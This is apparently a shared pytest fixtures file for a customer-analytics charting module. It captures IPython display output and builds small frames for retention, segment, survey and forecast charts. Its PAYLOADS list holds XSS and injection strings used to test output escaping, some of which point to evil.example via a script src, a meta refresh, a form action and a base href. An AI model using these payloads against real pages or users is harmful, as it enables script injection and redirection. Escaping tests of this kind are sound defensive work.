"""What the tests of show share: a real shell that catches displays, hostile text, small frames."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass

import forecast_frames as frames
import numpy as np
import pandas as pd
import pytest
from IPython.core.displaypub import CapturingDisplayPublisher
from IPython.core.interactiveshell import InteractiveShell
from matplotlib.figure import Figure
from traitlets.config import Config

from regulars.show import charts

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q></form>",
    "</table></div><h1>Sold</h1>",
    "</caption></thead><tr><td>9</td></tr>",
    "</details></summary>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<b>bold</b> & 'quoted' \"twice\"",
    "a\x00b\x1b[31mred\x1b[0m\r\nnext\u2028line",
    "\u202egnp.exe\u2066x",
    "$x_1$ $\\frac{ \\textbf{",
    "{{ config }} {% raw %} ${7*7}",
    "=HYPERLINK('//evil.example')",
    "_hidden ^sub^ `code` [x](javascript:alert(1))",
    "深圳市南山区 🙂",
]


@dataclass(frozen=True)
class Case:
    """A chart function with a small frame whose picture one can tell by hand."""

    draw: Callable[[pd.DataFrame], Figure]
    frame: pd.DataFrame


@pytest.fixture
def shown(tmp_path, monkeypatch) -> Iterator[list[dict]]:
    """Catch what is displayed, as a notebook would get it."""
    monkeypatch.setenv("IPYTHONDIR", str(tmp_path))
    config = Config()
    config.HistoryManager.enabled = False
    InteractiveShell.clear_instance()
    shell = InteractiveShell.instance(config=config)
    shell.display_pub = CapturingDisplayPublisher()
    yield shell.display_pub.outputs
    InteractiveShell.clear_instance()


@pytest.fixture(params=PAYLOADS, ids=lambda payload: payload.encode("unicode_escape").decode()[:30])
def payload(request) -> str:
    """Return hostile text, as it may come from data."""
    return request.param


@pytest.fixture
def cases() -> dict[str, Case]:
    """Return every chart with a small frame."""
    return {
        **_ledger(),
        **_base(),
        **_segments(),
        **_loyalty(),
        **_churn(),
        **_value(),
        **_lenses(),
        **_moves(),
        **_needs(),
        **_surveys(),
        **_deeds(),
        **_drivers(),
        **_repeats(),
        **_cohort_groups(),
        **_targets(),
        **_forecasts(),
        **_lifetime(),
        **_warnings(),
        **_contracts(),
    }


def _ledger() -> dict[str, Case]:
    steps = pd.DataFrame(
        {
            "step": ["in", "later", "unusable", "merged", "accepted"],
            "value": [3642.0, 11.0, 155.0, 294.0, 3182.0],
        }
    )
    return {"ledger_waterfall": Case(lambda f: charts.ledger_waterfall(f, xlabel="Rows"), steps)}


def _base() -> dict[str, Case]:
    months = pd.DataFrame(
        {
            "month": pd.to_datetime(["1997-11-01", "1997-12-01", "1998-01-01", "1998-02-01"]),
            "new": [30, 20, 10, 0],
            "returning": [0, 5, 15, 12],
            "spend": [600.0, 500.0, 480.0, -40.0],
            "complete": [True, True, True, False],
        }
    )
    amounts = pd.DataFrame(
        {"amount_from": [0.0, 10.0, 20.0], "amount_to": [10.0, 20.0, 30.0], "lines": [3, 9, 1]}
    )
    lorenz = pd.DataFrame(
        {"customers_share": [0.0, 0.5, 0.9, 1.0], "spend_share": [0.0, 0.2, 0.6, 1.0]}
    )
    deciles = pd.DataFrame(
        {
            "decile": range(1, 11),
            "spend_share": [0.4, 0.2, 0.1, 0.08, 0.07, 0.05, 0.04, 0.03, 0.02, 0.01],
            "spend_from": [62_000.0, 90.0, 70.0, 60.0, 50.0, 40.0, 30.0, 20.0, 10.0, 0.0],
        }
    )
    return {
        "monthly_bars": Case(
            lambda f: charts.monthly_bars(f, column="spend", ylabel="Spend", currency="USD"), months
        ),
        "new_and_returning": Case(charts.new_and_returning, months),
        "lorenz": Case(charts.lorenz, lorenz),
        "decile_bars": Case(lambda f: charts.decile_bars(f, currency="USD"), deciles),
        "amounts_histogram": Case(lambda f: charts.amounts_histogram(f, currency="USD"), amounts),
    }


def _segments() -> dict[str, Case]:
    grid = pd.DataFrame(
        {
            "r": [2, 2, 2, 1, 1, 1],
            "f": [1, 2, 3, 1, 2, 3],
            "customers": [4, 5, 6, 100, 2, 0],
            "segment": [
                *["new", "potential_loyalists", "potential_loyalists"],
                *["hibernating", "hibernating", "at_risk"],
            ],
        }
    )
    summary = pd.DataFrame(
        {
            "segment": ["hibernating", "champions", "at_risk"],
            "customers": [1200, 100, 700],
            "customers_share": [0.6, 0.05, 0.35],
            "spend_share": [0.2, 0.5, 0.3],
        }
    )
    return {
        "rfm_heatmap": Case(charts.rfm_heatmap, grid),
        "segment_bars": Case(charts.segment_bars, summary),
    }


def _value() -> dict[str, Case]:
    tiers = pd.DataFrame(
        {
            "tier": ["top", "second", "third", "rest"],
            "label": ["Top 1 %", "Next 4 %", "Next 15 %", "Rest"],
            "customers": [10, 40, 150, 800],
            "customers_share": [0.01, 0.04, 0.15, 0.8],
            "spend_share": [0.2, 0.3, 0.3, 0.2],
            "share_of_margin": [0.25, 0.3, 0.3, 0.15],
            "predicted_share": [0.15, 0.25, 0.3, 0.3],
        }
    )
    classes = tiers.drop(columns=["tier", "label"])
    classes.insert(0, "importance", ["vip", "potential", "ordinary", "dormant"])
    steps = ["list_value", "discounts", "spend", "goods", "margin", "contacts", "profit"]
    bridge = pd.DataFrame(
        {
            "step": steps,
            "kind": ["level", "change", "level", "change", "level", "change", "level"],
            "value": [110.0, -10.0, 100.0, -60.0, 40.0, -15.0, 25.0],
        }
    )
    whale = pd.DataFrame(
        {"customers_share": [0.0, 0.2, 0.6, 1.0], "profit_share": [0.0, 0.9, 1.3, 1.0]}
    )
    draws = pd.DataFrame(
        {"kept_from": [0.8, 0.85, 0.9], "kept_to": [0.85, 0.9, 0.95], "draws": [100, 600, 300]}
    )
    return {
        "tier_bars": Case(charts.tier_bars, tiers),
        "importance_bars": Case(charts.importance_bars, classes),
        "profit_bridge": Case(lambda f: charts.profit_bridge(f, currency="EUR"), bridge),
        "whale_curve": Case(charts.whale_curve, whale),
        "vip_stability": Case(lambda f: charts.vip_stability(f, median=0.87), draws),
    }


def _loyalty() -> dict[str, Case]:
    curve = pd.DataFrame(
        {
            "day": [0, 30, 90, 180],
            "share": [0.0, 0.2, 0.31, 0.55],
            "low": [0.0, 0.18, 0.29, 0.5],
            "high": [0.0, 0.22, 0.33, 0.6],
            "at_risk": [2357, 1800, 1600, 40],
        }
    )
    gaps = pd.DataFrame({"days": [1, 6, 7, 20], "gaps": [5, 4, 3, 2]})
    january, february = pd.to_datetime(["1997-01-01", "1997-02-01"])
    retention = pd.DataFrame(
        [
            (january, 0, 781, 1.0, True),
            (january, 1, 781, 0.159, True),
            (january, 2, 781, 0.0, False),
            (february, 0, 857, 1.0, True),
            (february, 1, 857, 0.08, False),
        ],
        columns=["cohort", "age", "customers", "rate", "complete"],
    )
    mean = pd.DataFrame(
        {
            "age": [0, 1, 2],
            "customers": [1638, 1638, 781],
            "rate": [1.0, 0.12, 0.1],
            "low": [1.0, 0.1, 0.08],
            "high": [1.0, 0.14, 0.13],
        }
    )
    return {
        "repurchase_curve": Case(lambda f: charts.repurchase_curve(f, mark_days=90), curve),
        "gap_histogram": Case(lambda f: charts.gap_histogram(f, marks={"median 6 days": 6}), gaps),
        "cohort_heatmap": Case(charts.cohort_heatmap, retention),
        "retention_mean": Case(charts.retention_mean, mean),
    }


def _churn() -> dict[str, Case]:
    calibration = pd.DataFrame(
        {
            "name": ["bg_nbd"] * 3 + ["mbg_nbd"] * 3,
            "repeat_days": ["0", "1", "2+"] * 2,
            "customers": [1411, 439, 507] * 2,
            "predicted_mean": [0.2, 0.6, 2.0, 0.25, 0.7, 1.8],
            "actual_mean": [0.24, 0.7, 2.2] * 2,
            "actual_low": [0.2, 0.6, 2.0] * 2,
            "actual_high": [0.28, 0.8, 2.4] * 2,
        }
    )
    tracking = pd.DataFrame(
        {
            "week": [1, 2, 3, 4],
            "actual": [5.0, 9.0, 14.0, 20.0],
            "bg_nbd": [6.0, 10.0, 13.0, 16.0],
            "mbg_nbd": [6.0, 10.0, 13.0, 15.0],
            "part": ["calibration", "calibration", "holdout", "holdout"],
        }
    )
    p_alive = pd.DataFrame(
        {
            "name": ["bg_nbd", "bg_nbd", "mbg_nbd", "mbg_nbd"],
            "p_alive_from": [0.0, 0.5, 0.0, 0.5],
            "p_alive_to": [0.5, 1.0, 0.5, 1.0],
            "customers": [100, 2257, 1500, 857],
        }
    )
    return {
        "calibration": Case(charts.calibration, calibration),
        "tracking": Case(charts.tracking, tracking),
        "p_alive_histogram": Case(charts.p_alive_histogram, p_alive),
    }


def _lenses() -> dict[str, Case]:
    spread = pd.DataFrame(
        {
            "spend_from": [None, 0.0, 20.0, 40.0],
            "spend_to": [0.0, 20.0, 40.0, None],
            "customers": [12, 80, 40, 25],
        }
    )
    tenths = pd.DataFrame(
        {
            "decile": range(1, 11),
            "orders_per_customer": [6.0, 4.0, 3.0, 2.5, 2.0, 1.8, 1.5, 1.2, 1.1, 1.0],
            "value_per_order": [90.0, 60.0, 50.0, 45.0, 40.0, 35.0, 30.0, 20.0, 15.0, 8.0],
            "margin_share": [0.4, 0.41, 0.42, 0.4, 0.39, 0.4, 0.4, 0.38, 0.4, 0.41],
        }
    )
    effects = pd.DataFrame(
        {
            "effect": ["customers", "orders", "value", "only_returns", "total"],
            "change": [-800.0, 250.0, -20.0, -5.0, -575.0],
            "low": [-1100.0, 100.0, -150.0, None, -900.0],
            "high": [-400.0, 380.0, 120.0, None, -200.0],
        }
    )
    january, february = pd.to_datetime(["1997-01-01", "1997-02-01"])
    cohort = pd.DataFrame(
        {
            "age": [0, 1, 2, 3],
            "active_share": [1.0, 0.2, 0.15, 0.1],
            "low": [1.0, 0.15, 0.1, 0.05],
            "high": [1.0, 0.25, 0.2, 0.15],
            "orders_per_active": [1.1, 1.2, 1.3, 1.2],
            "value_per_order": [35.0, 30.0, 40.0, 32.0],
            "spend_per_customer": [38.5, 7.2, 7.8, 3.8],
            "complete": [True, True, True, False],
        }
    )
    cells = pd.DataFrame(
        [
            (january, 0, 100, 3600.0, True),
            (january, 1, 100, 800.0, True),
            (january, 2, 100, 250.0, False),
            (february, 0, 60, 1900.0, True),
            (february, 1, 60, 300.0, False),
        ],
        columns=["cohort", "age", "customers", "spend", "complete"],
    )
    bands = pd.DataFrame(
        {
            "band": ["1996", "1996", "1997", "1997", "Never bought", "Never bought"],
            "since": pd.to_datetime(["1996-02-01"] * 2 + ["1997-01-01"] * 2 + [None] * 2),
            "month": pd.to_datetime(["1997-01-01", "1997-02-01"] * 3),
            "spend": [500.0, 300.0, 200.0, 350.0, 0.0, -30.0],
            "complete": [True, False] * 3,
        }
    )
    months = {"unit": "month", "currency": "USD"}
    return {
        "spend_histogram": Case(lambda f: charts.spend_histogram(f, currency="USD"), spread),
        "driver_bars": Case(lambda f: charts.driver_bars(f, currency="USD"), tenths),
        "change_bars": Case(lambda f: charts.change_bars(f, currency="USD"), effects),
        "cohort_panels": Case(lambda f: charts.cohort_panels(f, **months), cohort),
        "cohort_spend_heatmap": Case(lambda f: charts.cohort_spend_heatmap(f, **months), cells),
        "spend_layers": Case(lambda f: charts.spend_layers(f, currency="USD"), bands),
    }


def _needs() -> dict[str, Case]:
    affinity = pd.DataFrame(
        [
            ("vip", "tea", 40, 70, 1.61, True),
            ("vip", "jam", 40, 20, 0.9, False),
            ("dormant", "tea", 900, 90, 0.7, True),
            ("dormant", "jam", 900, 110, 1.04, False),
        ],
        columns=["segment", "category", "customers", "k", "index", "differs"],
    )
    pairs = pd.DataFrame(
        [
            ("jam", "tea", 1889, 1.6, 1.5, 1.7, True),
            ("oil", "tea", 12, 1.2, 0.7, 1.9, False),
            ("jam", "oil", 40, 0.5, 0.4, 0.6, True),
        ],
        columns=["first", "second", "both", "lift", "low", "high", "differs"],
    )
    silhouettes = pd.DataFrame(
        {
            "k": [2, 3, 4],
            "silhouette": [0.3, 0.52, 0.41],
            "reference_low": [np.nan, 0.25, np.nan],
            "reference_high": [np.nan, 0.28, np.nan],
        }
    )
    centres = pd.DataFrame(
        {
            "cluster": [1, 2, 3],
            "customers": [599, 518, 243],
            "days_between": [13.2, 68.0, 17.5],
            "value_per_order": [25.4, 147.6, 60.9],
            "intervals_since_last": [0.9, 1.0, 24.9],
        }
    )
    return {
        "affinity_heatmap": Case(charts.affinity_heatmap, affinity),
        "cluster_panels": Case(lambda f: charts.cluster_panels(f, currency="EUR"), centres),
        "cross_sell_dots": Case(charts.cross_sell_dots, pairs),
        "silhouette_dots": Case(charts.silhouette_dots, silhouettes),
    }


def _moves() -> dict[str, Case]:
    shares = pd.DataFrame(
        {
            "from": ["champions"] * 3 + ["at_risk"] * 3 + ["not_yet"] * 3,
            "to": ["champions", "at_risk", "silent"] * 3,
            "customers": [60, 30, 10, 20, 40, 0, 30, 0, 0],
            "share": [0.6, 0.3, 0.1, 0.333, 0.667, 0.0, 1.0, 0.0, 0.0],
            "n": [100] * 3 + [60] * 3 + [30] * 3,
        }
    )
    summary = pd.DataFrame(
        {
            "segment": ["champions", "at_risk", "new"],
            "before": [100, 60, 50],
            "now": [140, 20, 52],
            "net": [40, -40, 2],
            "net_low": [20.5, -61.0, -9.0],
            "net_high": [61.0, -20.0, 13.0],
            "net_exceeds_chance": [True, True, False],
        }
    )
    differing = pd.DataFrame(
        {
            "segment": ["champions", "champions", "at_risk"],
            "measure": ["spend", "region", "age"],
            "level": ["", "north", ""],
            "d": [1.8, -0.4, 0.9],
            "low": [1.7, -0.6, 0.7],
            "high": [1.9, -0.2, 1.1],
        }
    )
    return {
        "migration_heatmap": Case(charts.migration_heatmap, shares),
        "net_change_bars": Case(charts.net_change_bars, summary),
        "difference_dots": Case(charts.difference_dots, differing),
    }


def _surveys() -> dict[str, Case]:
    quarters = list(pd.to_datetime(["2024-10-01", "2025-01-01", "2025-04-01"]))
    periods = pd.DataFrame(
        {
            "question": ["nps"] * 3 + ["csat"] * 3,
            "measure": ["nps"] * 3 + ["top_box"] * 3,
            "period": quarters * 2,
            "n": [100, 120, 90] * 2,
            "value": [10.0, -5.0, 12.0, 0.7, 0.6, 0.65],
            "low": [0.0, -14.0, 2.0, 0.6, 0.5, 0.55],
            "high": [20.0, 4.0, 22.0, 0.78, 0.7, 0.74],
            "complete": [True, True, False] * 2,
        }
    )
    compared = pd.DataFrame(
        {
            "question": "nps",
            "measure": "nps",
            "by": ["segment", "segment", "region"],
            "group": ["loyal", "at_risk", "North"],
            "n": [268, 195, 383],
            "value": [22.4, -2.1, 11.2],
            "low": [13.2, -12.9, 3.5],
            "high": [31.1, 8.9, 18.8],
            "differs": [True, False, False],
        }
    )
    answering = pd.DataFrame(
        {
            "measure": ["spend", "household", "orders", "segment_before"],
            "level": ["", "shared", "", "at_risk"],
            "d": [0.2, -0.38, 0.05, 0.12],
            "low": [0.05, -0.5, -0.1, 0.0],
            "high": [0.35, -0.26, 0.2, 0.25],
            "distinct": [True, True, False, False],
        }
    )
    topics = pd.DataFrame(
        {
            "topic": ["delivery", "price", "no_topic"],
            "customers": [70, 38, 20],
            "detractors": [0.3, 0.7, 0.2],
            "low": [0.2, 0.54, 0.08],
            "high": [0.42, 0.82, 0.42],
        }
    )
    return {
        "score_trend": Case(charts.score_trend, periods),
        "score_dots": Case(lambda f: charts.score_dots(f, overall=7.8), compared),
        "answering_dots": Case(charts.answering_dots, answering),
        "topic_bars": Case(charts.topic_bars, topics),
    }


def _deeds() -> dict[str, Case]:
    curves = pd.DataFrame(
        [
            *[
                ("detractor", day, s, n)
                for day, s, n in [(0, 0, 496), (90, 0.29, 280), (120, 0.3, 40)]
            ],
            *[
                ("promoter", day, s, n)
                for day, s, n in [(0, 0, 631), (90, 0.45, 252), (150, 0.5, 12)]
            ],
        ],
        columns=["band", "day", "share", "at_risk"],
    )
    found = pd.DataFrame(
        {
            "question": "nps",
            "band": ["detractor", "passive", "promoter"],
            "customers": [496, 743, 631],
            "share": [0.29, 0.3, 0.45],
            "low": [0.25, 0.28, 0.41],
            "high": [0.33, 0.32, 0.49],
        }
    )
    judged = pd.DataFrame(
        {
            "question": ["ces", "csat", "nps"],
            "customers": [283, 632, 1160],
            "gain": [np.nan, 0.01, 0.003],
            "low": [np.nan, 0.004, -0.003],
            "high": [np.nan, 0.016, 0.009],
            "verdict": ["too_few", "adds", "adds_nothing"],
        }
    )
    banded = curves.assign(low=0.9 * curves["share"], high=1.1 * curves["share"])
    return {
        "comeback_curves": Case(lambda f: charts.comeback_curves(f, mark_days=90), banded),
        "comeback_dots": Case(charts.comeback_dots, found),
        "foresight_dots": Case(charts.foresight_dots, judged),
    }


def _drivers() -> dict[str, Case]:
    drivers = pd.DataFrame(
        {
            "driver": ["quality", "service", "price"],
            "share": [0.30, 0.20, 0.10],
            "low": [0.25, 0.15, 0.06],
            "high": [0.35, 0.26, 0.14],
            "place": [0.60, 0.75, 0.72],
            "place_low": [0.58, 0.73, 0.70],
            "place_high": [0.62, 0.77, 0.74],
        }
    )
    apart = pd.DataFrame(
        {
            "measure": ["first_spend", "region", "birth_year"],
            "level": ["", "north", ""],
            "d": [0.5, -0.4, 0.1],
            "low": [0.3, -0.6, -0.1],
            "high": [0.7, -0.2, 0.3],
            "distinct": [True, True, False],
        }
    )
    return {
        "importance_performance": Case(charts.importance_performance, drivers),
        "apart_dots": Case(charts.apart_dots, apart),
    }


def _repeats() -> dict[str, Case]:
    first = pd.date_range("1997-01-01", periods=4, freq="QS")
    rates = pd.DataFrame(
        {
            "purchase": [1, 2, 3, 4],
            "customers": [2357, 1139, 736, 527],
            "rate": [0.29, 0.43, 0.52, 0.61],
            "low": [0.27, 0.4, 0.49, 0.57],
            "high": [0.31, 0.46, 0.56, 0.65],
        }
    )
    windows = rates[["rate", "low", "high"]].assign(
        first_day=first,
        last_day=first + pd.offsets.QuarterEnd(0),
        complete=[True, True, True, False],
    )
    curves = pd.DataFrame(
        [
            ("app", 0, 0.0, 0.0, 0.0, 500),
            ("app", 30, 0.3, 0.26, 0.34, 400),
            ("app", 90, 0.5, 0.45, 0.55, 200),
            ("web", 0, 0.0, 0.0, 0.0, 900),
            ("web", 30, 0.2, 0.18, 0.22, 700),
            ("web", 90, 0.4, 0.36, 0.44, 450),
            ("web", 180, 0.6, 0.56, 0.64, 90),
        ],
        columns=["group", "day", "share", "low", "high", "at_risk"],
    )
    return {
        "repeat_rates": Case(charts.repeat_rates, rates),
        "window_rates": Case(charts.window_rates, windows),
        "waiting_curves": Case(charts.waiting_curves, curves),
    }


def _cohort_groups() -> dict[str, Case]:
    rows = pd.DataFrame(
        [
            ("web", 0, 900, 1.0, 1.0, 1.0, 40.0),
            ("web", 1, 900, 0.16, 0.14, 0.18, 47.5),
            ("web", 2, 900, 0.12, 0.1, 0.15, 52.0),
            ("app", 0, 300, 1.0, 1.0, 1.0, 35.0),
            ("app", 1, 300, 0.1, 0.07, 0.14, 38.0),
            ("app", 2, 300, 0.08, 0.05, 0.12, 41.0),
        ],
        columns=["group", "age", "customers", "rate", "low", "high", "spend_to_age"],
    )
    money = rows.drop(columns="rate").assign(
        low=0.9 * rows["spend_to_age"], high=1.1 * rows["spend_to_age"]
    )
    return {
        "retention_by_group": Case(charts.retention_by_group, rows.drop(columns="spend_to_age")),
        "cohort_money": Case(lambda f: charts.cohort_money(f, currency="EUR"), money),
    }


def _targets() -> dict[str, Case]:
    months = pd.date_range("1997-01-01", periods=4, freq="MS")
    judged = pd.DataFrame(
        {
            "month": months,
            "label": "NPS",
            "unit": "points",
            "owner": "service",
            "target": [30.0, 30.0, 32.0, 32.0],
            "value": [40.0, 10.0, 31.0, np.nan],
            "low": [34.0, 4.0, 25.0, np.nan],
            "high": [46.0, 16.0, 37.0, np.nan],
            "verdict": ["on_track", "behind", "not_knowable", "not_knowable"],
        }
    )
    limits = pd.DataFrame(
        {
            "month": months,
            "label": "Revenue",
            "unit": "money",
            "value": [100.0, 110.0, 180.0, 90.0],
            "centre": 100.0,
            "lower": 60.0,
            "upper": 140.0,
            "signal": ["", "", "outside", "run"],
        }
    )
    return {
        "target_panels": Case(lambda f: charts.target_panels(f, currency="EUR"), judged),
        "control_panels": Case(lambda f: charts.control_panels(f, currency="EUR"), limits),
    }


def _forecasts() -> dict[str, Case]:
    tenths = frames.seen(frames.TENTHS_OF_MODELS)
    return {
        "log_score_dots": Case(charts.log_score_dots, frames.CONTEST.dropna()),
        "gains_curves": Case(charts.gains_curves, frames.PURCHASES_REACHED),
        "tracking_weeks": Case(charts.tracking_weeks, _churn()["tracking"].frame),
        "chances_by_tenth": Case(charts.chances_by_tenth, tenths),
        "next_windows": Case(charts.next_windows, frames.WINDOWS),
        "p_alive_curve": Case(charts.p_alive_curve, frames.LIFE),
        "feature_dots": Case(charts.feature_dots, frames.IMPORTANCE),
    }


def _lifetime() -> dict[str, Case]:
    of_groups = {"by": "segment", "what": "spend (not margin)", "currency": "USD"}
    of_curve = {"what": "margin", "currency": "USD", "payback_days": 365}
    groups = frames.seen(frames.VALUE_GROUPS)
    return {
        "value_tenths": Case(charts.value_tenths, frames.VALUE_TENTHS),
        "value_dots": Case(lambda f: charts.value_dots(f, **of_groups), groups),
        "value_moves": Case(charts.value_moves, frames.VALUE_MOVES),
        "newcomer_curve": Case(lambda f: charts.newcomer_curve(f, **of_curve), frames.NEWCOMER),
    }


def _warnings() -> dict[str, Case]:
    return {
        "list_dots": Case(charts.list_dots, frames.seen(frames.LISTS)),
        "reason_dots": Case(charts.reason_dots, frames.seen(frames.REASONS)),
        "return_dots": Case(charts.return_dots, frames.seen(frames.RETURNS)),
        "break_even_dots": Case(charts.break_even_dots, frames.WORTH),
        "arm_dots": Case(charts.arm_dots, frames.seen(frames.ARMS)),
    }


def _contracts() -> dict[str, Case]:
    return {
        "contract_curves": Case(charts.contract_curves, frames.CONTRACTS),
        "renewal_points": Case(charts.renewal_points, frames.RENEWALS),
        "renewals_ahead": Case(charts.renewals_ahead, frames.AHEAD),
        "hazard_ratios": Case(charts.hazard_ratios, frames.RATIOS),
    }
